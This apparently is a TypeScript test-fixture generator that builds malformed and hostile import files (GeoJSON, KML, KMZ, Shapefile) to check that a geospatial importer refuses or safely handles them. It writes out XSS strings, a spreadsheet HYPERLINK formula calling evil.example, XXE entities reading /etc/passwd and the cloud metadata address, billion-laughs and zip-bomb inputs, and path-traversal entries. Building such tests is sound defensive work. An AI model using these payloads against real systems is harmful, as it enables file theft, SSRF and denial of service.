import { readFileSync } from 'node:fs';
import { strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import type { ImportErrorCode } from '../../src/core/io/import-error';

/**
 * Malformed and hostile inputs for every import format, generated
 * deterministically from small valid files (GDAL-written fixtures and
 * hand-written ones). Each case says what a correct importer does with it:
 *
 * - 'ok': imports (the shape may carry problems the checks list afterwards);
 * - 'refused': one clear ImportError, with one of `codes` when given;
 * - 'either': imports or is refused clearly (byte-level fuzz, where either
 *   can be right), but never crashes, hangs or shows a stack trace.
 *
 * `heavy` cases (hundreds of MB or a million vertices) run through the
 * readers and the command line, not through a browser page.
 */

export type Expectation = 'ok' | 'refused' | 'either';

export interface HostileCase {
  readonly id: string;
  readonly file: string;
  readonly bytes: Uint8Array;
  readonly expect: Expectation;
  readonly codes?: readonly ImportErrorCode[];
  readonly heavy?: boolean;
  /** For 'ok' cases: how many blocks the file holds. */
  readonly blocks?: number;
}

/** A deterministic pseudo-random generator (LCG), so every run sees the same cases. */
function rng(seed: number) {
  let s = seed >>> 0;
  return () => (s = (Math.imul(s, 1664525) + 1013904223) >>> 0) / 2 ** 32;
}

const fixture = (path: string) =>
  new Uint8Array(readFileSync(new URL(`../fixtures/${path}`, import.meta.url)));

// A 1.2 × 1.0 km block in Haidian, and the same as a Feature, a ring, WKT, KML.
const RING = [
  [116.3272, 39.9805],
  [116.3388, 39.9805],
  [116.3388, 39.9895],
  [116.3272, 39.9895],
  [116.3272, 39.9805],
];
const feature = (geometry: unknown, properties: unknown = { name: '测试区块' }) => ({
  type: 'Feature',
  properties,
  geometry,
});
const polygon = (rings: unknown = [RING]) => ({ type: 'Polygon', coordinates: rings });
const fc = (...features: unknown[]) => ({ type: 'FeatureCollection', features });
const json = (v: unknown) => strToU8(JSON.stringify(v));
const VALID_GEOJSON = JSON.stringify(fc(feature(polygon())));
const WKT = `POLYGON((${RING.map((p) => p.join(' ')).join(', ')}))`;
const kmlDoc = (placemarks: string, head = '<?xml version="1.0" encoding="UTF-8"?>') =>
  `${head}\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document>${placemarks}</Document></kml>`;
const placemark = (name: string, coords: readonly (readonly (number | undefined)[])[] = RING) =>
  `<Placemark><name>${name}</name><Polygon><outerBoundaryIs><LinearRing><coordinates>${coords
    .map((p) => p.join(','))
    .join(' ')}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>`;
const VALID_KML = kmlDoc(placemark('测试区块'));
const VALID_CSV = `name,wkt\n测试区块,"${WKT}"\n`;

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const out = new Uint8Array(2 + text.length * 2);
  out.set(bigEndian ? [0xfe, 0xff] : [0xff, 0xfe]);
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    out[2 + 2 * i + (bigEndian ? 0 : 1)] = c >> 8;
    out[2 + 2 * i + (bigEndian ? 1 : 0)] = c & 0xff;
  }
  return out;
}

/** GBK bytes of a few Chinese words (TextEncoder only writes UTF-8), for encoding mix-ups. */
const GBK_CESHI_QUKUAI = [0xb2, 0xe2, 0xca, 0xd4, 0xc7, 0xf8, 0xbf, 0xe9]; // 测试区块
function withGbkName(textBefore: string, textAfter: string): Uint8Array {
  const a = strToU8(textBefore);
  const b = strToU8(textAfter);
  const out = new Uint8Array(a.length + GBK_CESHI_QUKUAI.length + b.length);
  out.set(a);
  out.set(GBK_CESHI_QUKUAI, a.length);
  out.set(b, a.length + GBK_CESHI_QUKUAI.length);
  return out;
}

/** Cuts at `n` evenly spread points strictly inside the file. */
function truncations(bytes: Uint8Array, n: number): Uint8Array[] {
  return Array.from({ length: n }, (_, i) => bytes.slice(0, Math.floor(((i + 1) * bytes.length) / (n + 1))));
}

/** `k` bytes overwritten with seeded random values. */
function flipped(bytes: Uint8Array, k: number, seed: number): Uint8Array {
  const next = rng(seed);
  const out = bytes.slice();
  for (let i = 0; i < k; i++) out[Math.floor(next() * out.length)] = Math.floor(next() * 256);
  return out;
}

/** A zip whose headers claim each entry is 100 bytes, whatever it inflates to. */
function lyingSizes(zip: Uint8Array): Uint8Array {
  const out = zip.slice();
  const v = new DataView(out.buffer);
  for (let i = 0; i + 4 <= out.length; i++) {
    const sig = v.getUint32(i, true);
    if (sig === 0x04034b50 && i + 26 <= out.length) v.setUint32(i + 22, 100, true);
    if (sig === 0x02014b50 && i + 28 <= out.length) v.setUint32(i + 24, 100, true);
  }
  return out;
}

export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  const add = (c: HostileCase) => cases.push(c);
  const refused = (id: string, file: string, bytes: Uint8Array, codes?: ImportErrorCode[]) =>
    add({ id, file, bytes, expect: 'refused', codes });
  /** `blocks`: how many the file holds; null when it is a fixture whose count does not matter here. */
  const ok = (id: string, file: string, bytes: Uint8Array, blocks: number | null = 1) =>
    add({ id, file, bytes, expect: 'ok', ...(blocks === null ? {} : { blocks }) });
  const either = (id: string, file: string, bytes: Uint8Array) => add({ id, file, bytes, expect: 'either' });

  // ---------- GeoJSON ----------
  const g = strToU8(VALID_GEOJSON);
  ok('geojson/valid', 'valid.geojson', g);
  truncations(g, 30).forEach((b, i) => refused(`geojson/truncated-${i}`, 'cut.geojson', b, ['invalid-json']));
  for (const [name, text] of [
    ['empty', ''],
    ['whitespace', ' \n\t '],
    ['null', 'null'],
    ['array', '[]'],
    ['object', '{}'],
    ['number', '0'],
    ['string', '"FeatureCollection"'],
    ['true', 'true'],
    [
      'nan-token',
      '{"type":"Feature","properties":{},"geometry":{"type":"Polygon","coordinates":[[[NaN,39.9]]]}}',
    ],
    ['infinity-token', '{"type":"Feature","geometry":{"type":"Polygon","coordinates":[[[Infinity,1]]]}}'],
    ['trailing-comma', VALID_GEOJSON.replace(/]]]}}]}$/, ']]],}}]}')],
    ['single-quotes', VALID_GEOJSON.replace(/"/g, "'")],
    ['comment', `// blocks\n${VALID_GEOJSON}`],
    ['two-documents', VALID_GEOJSON + VALID_GEOJSON],
    ['nul-bytes', '\u0000\u0000\u0000'],
    ['html', '<!doctype html><html><body>Not found</body></html>'],
  ] as const)
    refused(`geojson/${name}`, `${name}.geojson`, strToU8(text), ['invalid-json', 'not-geojson']);
  for (const [name, v] of [
    ['type-missing', { features: [feature(polygon())] }],
    ['type-number', { type: 7, features: [] }],
    ['type-topology', { type: 'Topology', objects: {} }],
    ['type-lowercase', { type: 'featurecollection', features: [feature(polygon())] }],
  ] as const)
    refused(`geojson/${name}`, 'x.geojson', json(v), ['not-geojson']);
  // RFC 7946: a bare geometry is a GeoJSON text too (one block).
  ok('geojson/type-geometry', 'x.geojson', json(polygon()));
  for (const [name, v] of [
    ['features-object', { type: 'FeatureCollection', features: {} }],
    ['features-string', { type: 'FeatureCollection', features: 'none' }],
    ['features-null', { type: 'FeatureCollection', features: null }],
    ['feature-null', fc(null)],
    ['feature-number', fc(42)],
    ['feature-no-type', fc({ properties: {}, geometry: polygon() })],
    ['geometry-string', fc(feature('POLYGON((1 2))'))],
    ['geometry-no-type', fc(feature({ coordinates: [RING] }))],
    ['geometry-unknown-type', fc(feature({ type: 'Circle', coordinates: [116.3, 39.9], radius: 100 }))],
    ['coordinates-string', fc(feature({ type: 'Polygon', coordinates: '116.3,39.9' }))],
    ['coordinates-null', fc(feature({ type: 'Polygon', coordinates: null }))],
    ['coordinates-flat', fc(feature({ type: 'Polygon', coordinates: RING.flat() }))],
    ['coordinates-too-deep', fc(feature({ type: 'Polygon', coordinates: [[RING]] }))],
    ['coordinates-too-shallow', fc(feature({ type: 'Polygon', coordinates: RING }))],
    ['numbers-as-strings', fc(feature(polygon([RING.map((p) => p.map(String))])))],
    ['booleans', fc(feature(polygon([RING.map(() => [true, false])])))],
    ['null-positions', fc(feature(polygon([RING.map(() => null)])))],
    ['one-dimensional', fc(feature(polygon([RING.map((p) => [p[0]])])))],
    ['empty-positions', fc(feature(polygon([RING.map(() => [])])))],
    ['big-numbers', fc(feature(polygon([RING.map(() => [1e308, 1e308])])))],
    ['negative-zero-only', fc(feature(polygon([RING.map(() => [-0, -0])])))],
    ['ring-empty', fc(feature(polygon([[]])))],
    ['rings-empty', fc(feature(polygon([])))],
    ['ring-two-points', fc(feature(polygon([[RING[0], RING[1]]])))],
    ['ring-three-points', fc(feature(polygon([[RING[0], RING[1], RING[0]]])))],
    ['multipolygon-wrong-depth', fc(feature({ type: 'MultiPolygon', coordinates: [RING] }))],
  ] as const)
    refused(`geojson/${name}`, 'x.geojson', json(v), ['not-geojson', 'geometry', 'empty', 'not-polygon']);
  refused('geojson/no-features', 'x.geojson', json(fc()), ['empty']);
  for (const [name, v] of [
    ['point', fc(feature({ type: 'Point', coordinates: [116.33, 39.98] }))],
    ['multipoint', fc(feature({ type: 'MultiPoint', coordinates: RING }))],
    ['linestring', fc(feature({ type: 'LineString', coordinates: RING }))],
    ['multilinestring', fc(feature({ type: 'MultiLineString', coordinates: [RING] }))],
    [
      'geometrycollection',
      fc(
        feature({
          type: 'GeometryCollection',
          geometries: [polygon(), { type: 'Point', coordinates: [116.3, 40] }],
        }),
      ),
    ],
    ['geometry-null', fc(feature(null))],
    ['geometry-missing', fc({ type: 'Feature', properties: {} })],
    ['polygon-then-point', fc(feature(polygon()), feature({ type: 'Point', coordinates: [116.33, 39.98] }))],
  ] as const)
    refused(`geojson/${name}`, 'x.geojson', json(v), ['not-polygon', 'geometry', 'not-geojson']);
  // Coordinates in the wrong place or system.
  const swapped = RING.map(([x, y]) => [y, x]);
  refused('geojson/swapped-axes', 'x.geojson', json(fc(feature(polygon([swapped])))), ['misplaced']);
  const gk39 = RING.map(([x, y]) => [
    39_440_000 + (x! - 116.3272) * 85_000,
    4_428_000 + (y! - 39.9805) * 111_000,
  ]);
  refused('geojson/gk-metres-no-crs', 'x.geojson', json(fc(feature(polygon([gk39])))), [
    'misplaced',
    'geometry',
  ]);
  const gkNoZone = gk39.map(([x, y]) => [x! - 39_000_000, y]);
  refused('geojson/gk-metres-no-zone', 'x.geojson', json(fc(feature(polygon([gkNoZone])))), [
    'misplaced',
    'geometry',
  ]);
  const webMercator = RING.map(([x, y]) => [
    (x! * 20037508.34) / 180,
    (Math.log(Math.tan(((90 + y!) * Math.PI) / 360)) * 20037508.34) / Math.PI,
  ]);
  refused('geojson/web-mercator-metres', 'x.geojson', json(fc(feature(polygon([webMercator])))), [
    'misplaced',
    'geometry',
  ]);
  refused(
    'geojson/crs-member-3857',
    'x.geojson',
    json({
      ...fc(feature(polygon([webMercator]))),
      crs: { type: 'name', properties: { name: 'urn:ogc:def:crs:EPSG::3857' } },
    }),
    ['misplaced', 'geometry'],
  );
  refused(
    'geojson/shanghai',
    'x.geojson',
    json(fc(feature(polygon([RING.map(([x, y]) => [x! + 5.1, y! - 8.7])])))),
    ['geometry'],
  );
  refused('geojson/unclosed', 'x.geojson', json(fc(feature(polygon([RING.slice(0, 4)])))), ['unclosed']);
  // Shapes that import, with problems the checks list afterwards.
  const bowtie = [
    [116.3272, 39.9805],
    [116.3388, 39.9895],
    [116.3388, 39.9805],
    [116.3272, 39.9895],
    [116.3272, 39.9805],
  ];
  ok('geojson/bowtie', 'x.geojson', json(fc(feature(polygon([bowtie])))));
  ok('geojson/clockwise', 'x.geojson', json(fc(feature(polygon([[...RING].reverse()])))));
  ok('geojson/repeated-vertices', 'x.geojson', json(fc(feature(polygon([[RING[0], ...RING]])))));
  ok('geojson/3d-positions', 'x.geojson', json(fc(feature(polygon([RING.map(([x, y]) => [x, y, 45.5])])))));
  ok(
    'geojson/4d-positions',
    'x.geojson',
    json(fc(feature(polygon([RING.map(([x, y]) => [x, y, 45.5, 0])])))),
  );
  ok('geojson/bare-feature', 'x.geojson', json(feature(polygon())));
  ok('geojson/utf8-bom', 'x.geojson', new Uint8Array([0xef, 0xbb, 0xbf, ...g]));
  ok('geojson/utf16le-bom', 'x.geojson', utf16(VALID_GEOJSON, false));
  ok('geojson/utf16be-bom', 'x.geojson', utf16(VALID_GEOJSON, true));
  ok(
    'geojson/gbk-name',
    'x.geojson',
    withGbkName('{"type":"Feature","properties":{"name":"', `"},"geometry":${JSON.stringify(polygon())}}`),
  );
  ok(
    'geojson/hole-outside-shell',
    'x.geojson',
    json(fc(feature(polygon([RING, RING.map(([x, y]) => [x! + 0.05, y!])])))),
  );
  ok('geojson/bbox-member-wrong', 'x.geojson', json({ ...fc(feature(polygon())), bbox: [0, 0, 1, 1] }));
  ok(
    'geojson/duplicate-ids',
    'x.geojson',
    json(fc({ ...feature(polygon()), id: 'a' }, { ...feature(polygon()), id: 'a' })),
    2,
  );
  ok('geojson/object-id', 'x.geojson', json(fc({ ...feature(polygon()), id: { x: 1 } })));
  // Hostile attribute text: imported, and shown as text (the browser suite checks it is not run).
  const hostileNames = [
    '<img src=x onerror="window.__pwned=1">',
    '<script>window.__pwned=1</script>',
    '"><svg onload=window.__pwned=1>',
    'javascript:window.__pwned=1',
    '=HYPERLINK("http://evil.example","点我")',
    '+SUM(1,2)',
    '-2+3',
    '@cmd',
    '\u202egnp.exe',
    '\u0000\u0007\u001b[31m',
    'x'.repeat(100_000),
    '{{constructor.constructor("window.__pwned=1")()}}',
    '${window.__pwned=1}',
    '../../etc/passwd',
  ];
  hostileNames.forEach((name, i) =>
    ok(`geojson/hostile-name-${i}`, `name-${i}.geojson`, json(fc(feature(polygon(), { name })))),
  );
  for (const [name, props] of [
    ['proto-key', JSON.parse('{"__proto__":{"polluted":true},"name":"p"}')],
    ['constructor-key', { constructor: { prototype: { polluted: true } }, name: 'c' }],
    ['name-number', { name: 12345 }],
    ['name-object', { name: { zh: '区块' } }],
    ['name-null', { name: null }],
    ['properties-null', null],
    ['properties-array', [1, 2, 3]],
    ['many-properties', Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`f${i}`, i]))],
  ] as const)
    ok(`geojson/${name}`, 'x.geojson', json(fc(feature(polygon(), props))));
  // Deep nesting: in coordinates (refused) and in properties (imported or refused, never a crash).
  refused('geojson/deep-arrays', 'x.geojson', strToU8('['.repeat(100_000) + ']'.repeat(100_000)), [
    'invalid-json',
    'not-geojson',
  ]);
  refused(
    'geojson/deep-coordinates',
    'x.geojson',
    strToU8(
      `{"type":"Feature","geometry":{"type":"Polygon","coordinates":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`,
    ),
    ['invalid-json', 'geometry', 'not-geojson', 'not-polygon'],
  );
  either(
    'geojson/deep-properties',
    'x.geojson',
    strToU8(
      `{"type":"Feature","properties":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)},"geometry":${JSON.stringify(polygon())}}`,
    ),
  );
  // Very many small blocks, and one huge ring.
  const grid = Array.from({ length: 3000 }, (_, i) => {
    const x = 116.2 + (i % 60) * 0.004;
    const y = 39.9 + Math.floor(i / 60) * 0.003;
    return feature(
      polygon([
        [
          [x, y],
          [x + 0.003, y],
          [x + 0.003, y + 0.002],
          [x, y + 0.002],
          [x, y],
        ],
      ]),
      { name: `格${i}` },
    );
  });
  ok('geojson/3000-blocks', 'x.geojson', json(fc(...grid)), 3000);
  const n = 1_000_000;
  const circle = Array.from({ length: n }, (_, i) => [
    116.4 + 0.01 * Math.cos((2 * Math.PI * i) / n),
    39.9 + 0.01 * Math.sin((2 * Math.PI * i) / n),
  ]);
  add({
    id: 'geojson/million-vertex-ring',
    file: 'x.geojson',
    bytes: json(fc(feature(polygon([[...circle, circle[0]]])))),
    expect: 'ok',
    blocks: 1,
    heavy: true,
  });
  const star = Array.from({ length: 200_000 }, (_, i) => {
    const r = i % 2 ? 0.01 : 1e-9;
    const a = (2 * Math.PI * i) / 200_000;
    return [116.4 + r * Math.cos(a), 39.9 + r * Math.sin(a)];
  });
  add({
    id: 'geojson/star-200k',
    file: 'x.geojson',
    bytes: json(fc(feature(polygon([[...star, star[0]]])))),
    expect: 'refused',
    codes: ['geometry'],
    heavy: true,
  });
  add({
    id: 'geojson/over-200MB',
    file: 'x.geojson',
    bytes: new Uint8Array(201 * 2 ** 20).fill(32),
    expect: 'refused',
    codes: ['too-large'],
    heavy: true,
  });
  for (let i = 0; i < 40; i++) either(`geojson/fuzz-${i}`, 'fuzz.geojson', flipped(g, 1 + (i % 5), 1000 + i));

  // ---------- KML ----------
  const k = strToU8(VALID_KML);
  ok('kml/valid', 'valid.kml', k);
  truncations(k, 20).forEach((b, i) =>
    refused(`kml/truncated-${i}`, 'cut.kml', b, ['unreadable', 'empty', 'not-polygon']),
  );
  const xxe = fixture('kml/xxe.kml');
  refused('kml/xxe-fixture', 'xxe.kml', xxe, ['unsafe-xml']);
  for (const [name, text] of [
    [
      'xxe-file',
      `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${kmlDoc(placemark('&x;'), '')}`,
    ],
    [
      'xxe-http',
      `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${kmlDoc(placemark('&x;'), '')}`,
    ],
    [
      'xxe-parameter',
      `<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${kmlDoc(placemark('a'), '')}`,
    ],
    [
      'billion-laughs',
      `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${kmlDoc(placemark('&lol3;'), '')}`,
    ],
    ['doctype-only', `<?xml version="1.0"?><!DOCTYPE kml SYSTEM "kml.dtd">${kmlDoc(placemark('a'), '')}`],
    [
      'entity-lowercase',
      `<?xml version="1.0"?><!doctype kml [<!entity x "y">]>${kmlDoc(placemark('&x;'), '')}`,
    ],
  ] as const)
    refused(`kml/${name}`, 'x.kml', strToU8(text), ['unsafe-xml']);
  for (const [name, text] of [
    ['empty', ''],
    ['not-xml', 'this is not xml'],
    ['json-in-kml', VALID_GEOJSON],
    ['no-placemark', kmlDoc('')],
    ['wrong-root', '<?xml version="1.0"?><gpx><trk/></gpx>'],
    ['unclosed-tag', kmlDoc('<Placemark><name>a</name>')],
  ] as const)
    refused(`kml/${name}`, `${name}.kml`, strToU8(text), ['unreadable', 'empty', 'not-polygon']);
  for (const [name, body] of [
    ['point', '<Placemark><Point><coordinates>116.33,39.98</coordinates></Point></Placemark>'],
    [
      'linestring',
      `<Placemark><LineString><coordinates>${RING.map((p) => p.join(',')).join(' ')}</coordinates></LineString></Placemark>`,
    ],
    [
      'polygon-then-point',
      placemark('a') + '<Placemark><Point><coordinates>116.33,39.98</coordinates></Point></Placemark>',
    ],
  ] as const)
    refused(`kml/${name}`, 'x.kml', strToU8(kmlDoc(body)), ['not-polygon']);
  for (const [name, coords] of [
    ['coordinates-garbage', 'abc def ghi'],
    ['coordinates-empty', ''],
    ['coordinates-nan', 'NaN,NaN NaN,NaN NaN,NaN NaN,NaN'],
    ['coordinates-one-number', '116.3 116.4 116.5 116.3'],
  ] as const)
    refused(
      `kml/${name}`,
      'x.kml',
      strToU8(
        kmlDoc(
          `<Placemark><Polygon><outerBoundaryIs><LinearRing><coordinates>${coords}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark>`,
        ),
      ),
      ['geometry', 'not-polygon', 'empty', 'unreadable'],
    );
  refused('kml/swapped-axes', 'x.kml', strToU8(kmlDoc(placemark('a', swapped))), ['misplaced']);
  // KML readers close rings themselves (togeojson, GDAL): an open ring imports.
  ok('kml/unclosed', 'x.kml', strToU8(kmlDoc(placemark('a', RING.slice(0, 4)))));
  ok('kml/utf16le-bom', 'x.kml', utf16(VALID_KML.replace('UTF-8', 'UTF-16'), false));
  ok('kml/utf16be-bom', 'x.kml', utf16(VALID_KML.replace('UTF-8', 'UTF-16'), true));
  ok(
    'kml/gbk-declared',
    'x.kml',
    withGbkName(
      `<?xml version="1.0" encoding="GBK"?>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>`,
      `</name><Polygon><outerBoundaryIs><LinearRing><coordinates>${RING.map((p) => p.join(',')).join(' ')}</coordinates></LinearRing></outerBoundaryIs></Polygon></Placemark></Document></kml>`,
    ),
  );
  ok('kml/no-namespace', 'x.kml', strToU8(VALID_KML.replace(' xmlns="http://www.opengis.net/kml/2.2"', '')));
  ok('kml/cdata-name', 'x.kml', strToU8(kmlDoc(placemark('<![CDATA[<b>区块</b>]]>'))));
  hostileNames
    .slice(0, 8)
    .forEach((name, i) =>
      ok(
        `kml/hostile-name-${i}`,
        'x.kml',
        strToU8(kmlDoc(placemark(name.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')))),
      ),
    );
  ok('kml/folders', 'x.kml', strToU8(kmlDoc(`<Folder><Folder>${placemark('a')}</Folder></Folder>`)));
  ok(
    'kml/multigeometry',
    'x.kml',
    strToU8(
      kmlDoc(
        `<Placemark><MultiGeometry>${placemark('').replace(/<\/?Placemark>|<name><\/name>/g, '')}</MultiGeometry></Placemark>`,
      ),
    ),
  );
  for (let i = 0; i < 30; i++) either(`kml/fuzz-${i}`, 'fuzz.kml', flipped(k, 1 + (i % 4), 2000 + i));

  // ---------- KMZ ----------
  const kmz = zipSync({ 'doc.kml': k });
  ok('kmz/valid', 'valid.kmz', kmz);
  ok('kmz/fixture', 'blocks.kmz', fixture('kml/blocks.kmz'), null);
  ok('kmz/path-traversal-entry', 'x.kmz', zipSync({ '../../../../tmp/evil.kml': k }));
  ok('kmz/absolute-entry', 'x.kmz', zipSync({ '/etc/doc.kml': k }));
  ok('kmz/kml-in-folder', 'x.kmz', zipSync({ files: { 'doc.kml': k } } as Zippable));
  refused('kmz/no-kml', 'x.kmz', zipSync({ 'readme.txt': strToU8('hello') }), ['unreadable', 'empty']);
  refused('kmz/empty-zip', 'x.kmz', zipSync({}), ['unreadable', 'empty']);
  refused('kmz/not-a-zip', 'x.kmz', k, ['unreadable']);
  refused('kmz/random-bytes', 'x.kmz', flipped(new Uint8Array(4096), 4096, 7), ['unreadable']);
  refused('kmz/xxe-inside', 'x.kmz', zipSync({ 'doc.kml': xxe }), ['unsafe-xml']);
  // Cut inside the central directory, every entry is still whole: importing then is right too.
  truncations(kmz, 12).forEach((b, i) => either(`kmz/truncated-${i}`, 'cut.kmz', b));
  const manyEntries: Zippable = {};
  for (let i = 0; i < 2100; i++) manyEntries[`f${i}.txt`] = new Uint8Array(1);
  refused('kmz/too-many-entries', 'x.kmz', zipSync(manyEntries), ['too-large']);
  const zeros = new Uint8Array(300 * 2 ** 20);
  const bomb = zipSync({ 'doc.kml': zeros }, { level: 9 });
  add({
    id: 'kmz/zip-bomb',
    file: 'bomb.kmz',
    bytes: bomb,
    expect: 'refused',
    codes: ['too-large'],
    heavy: true,
  });
  add({
    id: 'kmz/zip-bomb-lying-sizes',
    file: 'bomb.kmz',
    bytes: lyingSizes(bomb),
    expect: 'refused',
    codes: ['too-large'],
    heavy: true,
  });
  const smallBomb = zipSync({ 'doc.kml': new Uint8Array(20 * 2 ** 20) }, { level: 9 });
  refused('kmz/small-bomb-of-zeros', 'x.kmz', smallBomb, ['unreadable', 'empty']);
  refused('kmz/lying-sizes-small', 'x.kmz', lyingSizes(smallBomb), ['unreadable', 'empty']);
  refused('kmz/nested-kmz', 'x.kmz', zipSync({ 'inner.kmz': kmz }), ['unreadable', 'empty']);
  for (let i = 0; i < 20; i++) either(`kmz/fuzz-${i}`, 'fuzz.kmz', flipped(kmz, 1 + (i % 3), 3000 + i));

  // ---------- Zipped Shapefile ----------
  const shpZip = fixture('shapefile/gk39-utf8.zip');
  const parts = unzipSync(shpZip);
  const names = Object.keys(parts);
  const part = (ext: string) => names.find((n) => n.toLowerCase().endsWith(ext))!;
  ok('shapefile/valid', 'valid.zip', shpZip, null);
  ok('shapefile/gbk-no-cpg', 'gbk.zip', fixture('shapefile/gk117-gbk-nocpg.zip'), null);
  refused('shapefile/beijing54', 'bj54.zip', fixture('shapefile/beijing54.zip'), ['crs']);
  refused('shapefile/no-prj-fixture', 'noprj.zip', fixture('shapefile/no-prj.zip'), [
    'crs',
    'shapefile-parts',
  ]);
  const without = (ext: string) => {
    const z: Zippable = {};
    for (const nm of names) if (!nm.toLowerCase().endsWith(ext)) z[nm] = parts[nm]!;
    return zipSync(z);
  };
  for (const ext of ['.shp', '.prj'])
    refused(`shapefile/missing${ext}`, 'x.zip', without(ext), ['shapefile-parts', 'crs', 'unreadable']);
  // The index is not needed to read the shapes, and without a .dbf the blocks have no attributes (a note says so).
  ok('shapefile/missing.shx', 'x.zip', without('.shx'), null);
  ok('shapefile/missing.dbf', 'x.zip', without('.dbf'), null);
  const replaced = (ext: string, bytes: Uint8Array) => {
    const z: Zippable = {};
    for (const nm of names) z[nm] = nm.toLowerCase().endsWith(ext) ? bytes : parts[nm]!;
    return zipSync(z);
  };
  for (const [name, prj] of [
    ['prj-garbage', 'this is not WKT'],
    ['prj-empty', ''],
    [
      'prj-utm50',
      'PROJCS["WGS_1984_UTM_Zone_50N",GEOGCS["GCS_WGS_1984",DATUM["D_WGS_1984",SPHEROID["WGS_1984",6378137.0,298.257223563]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]],PROJECTION["Transverse_Mercator"],PARAMETER["False_Easting",500000.0],PARAMETER["False_Northing",0.0],PARAMETER["Central_Meridian",117.0],PARAMETER["Scale_Factor",0.9996],PARAMETER["Latitude_Of_Origin",0.0],UNIT["Meter",1.0]]',
    ],
    [
      'prj-xian80',
      'GEOGCS["GCS_Xian_1980",DATUM["D_Xian_1980",SPHEROID["Xian_1980",6378140.0,298.257]],PRIMEM["Greenwich",0.0],UNIT["Degree",0.0174532925199433]]',
    ],
    ['prj-huge', 'PROJCS["' + 'A'.repeat(1_000_000) + '"]'],
  ] as const)
    // UTM 50N is converted (it is a system proj4 knows); the blocks, in GK metres, then miss Beijing.
    refused(`shapefile/${name}`, 'x.zip', replaced('.prj', strToU8(prj)), ['crs', 'geometry']);
  // By parameters (GDAL's WKT, test/fixtures/prj-wkt-gdal.json): the fixture's metres are CGCS2000 CM 117E.
  const gdalPrj = JSON.parse(readFileSync('test/fixtures/prj-wkt-gdal.json', 'utf8')) as {
    crs: Record<string, Record<string, string>>;
    towgs84: { wkt1_gdal: string };
  };
  const cm117 = unzipSync(fixture('shapefile/gk117-gbk.zip'));
  const withPrj = (wkt: string) =>
    zipSync(
      Object.fromEntries(
        Object.entries(cm117).map(([n, b]) => [n, n.toLowerCase().endsWith('.prj') ? strToU8(wkt) : b]),
      ),
    );
  ok('shapefile/prj-4509-6-degree-cm117', 'x.zip', withPrj(gdalPrj.crs['4509']!.wkt1_esri!), null);
  // Beijing 1954 on the same meridian with a datum shift in the file: converted, still in Beijing.
  ok('shapefile/prj-beijing54-towgs84', 'x.zip', withPrj(gdalPrj.towgs84.wkt1_gdal), null);
  refused(
    'shapefile/prj-beijing54-no-shift',
    'x.zip',
    replaced('.prj', strToU8(gdalPrj.crs['2436']!.wkt2!)),
    ['crs'],
  );
  // A GRS 1980 datum elsewhere is read (not refused as Beijing 1954); the metres then miss longitude's range.
  for (const epsg of ['4269', '3006', '4283'])
    refused(
      `shapefile/prj-${epsg}-grs80`,
      'x.zip',
      replaced('.prj', strToU8(gdalPrj.crs[epsg]!.wkt1_esri!)),
      ['geometry'],
    );
  const shp = parts[part('.shp')]!;
  const dbf = parts[part('.dbf')]!;
  const shx = parts[part('.shx')]!;
  truncations(shp, 10).forEach((b, i) =>
    either(`shapefile/shp-truncated-${i}`, 'x.zip', replaced('.shp', b)),
  );
  truncations(dbf, 6).forEach((b, i) => either(`shapefile/dbf-truncated-${i}`, 'x.zip', replaced('.dbf', b)));
  truncations(shx, 4).forEach((b, i) => either(`shapefile/shx-truncated-${i}`, 'x.zip', replaced('.shx', b)));
  const pointShp = shp.slice();
  new DataView(pointShp.buffer).setInt32(32, 1, true); // shape type: Point
  either('shapefile/header-says-points', 'x.zip', replaced('.shp', pointShp));
  const hugeLength = shp.slice();
  new DataView(hugeLength.buffer).setInt32(24, 0x7fffffff, false); // file length in 16-bit words
  either('shapefile/header-length-huge', 'x.zip', replaced('.shp', hugeLength));
  const hugeRecord = shp.slice();
  if (hugeRecord.length > 108) new DataView(hugeRecord.buffer).setInt32(104, 0x7fffffff, false);
  either('shapefile/record-length-huge', 'x.zip', replaced('.shp', hugeRecord));
  const hugeParts = shp.slice();
  if (hugeParts.length > 152) new DataView(hugeParts.buffer).setInt32(144, 0x7fffffff, true);
  either('shapefile/num-parts-huge', 'x.zip', replaced('.shp', hugeParts));
  const dbfHugeCount = dbf.slice();
  new DataView(dbfHugeCount.buffer).setUint32(4, 0xffffffff, true);
  either('shapefile/dbf-record-count-huge', 'x.zip', replaced('.dbf', dbfHugeCount));
  either(
    'shapefile/cpg-unknown',
    'x.zip',
    zipSync({
      ...Object.fromEntries(names.map((nm) => [nm, parts[nm]!])),
      'blocks.cpg': strToU8('KLINGON-8'),
    }),
  );
  const traversal: Zippable = {};
  for (const nm of names) traversal[`../../../${nm}`] = parts[nm]!;
  either('shapefile/path-traversal', 'x.zip', zipSync(traversal));
  const twice: Zippable = {};
  for (const nm of names) {
    twice[nm] = parts[nm]!;
    twice[`copy/${nm.replace(/^.*\//, 'second-')}`] = parts[nm]!;
  }
  either('shapefile/two-shapefiles', 'x.zip', zipSync(twice));
  refused('shapefile/empty-zip', 'x.zip', zipSync({}), ['shapefile-parts', 'unreadable']);
  refused('shapefile/not-a-zip', 'x.zip', strToU8(VALID_GEOJSON), ['unreadable']);
  refused('shapefile/only-text', 'x.zip', zipSync({ 'readme.txt': strToU8('no shapes here') }), [
    'shapefile-parts',
    'unreadable',
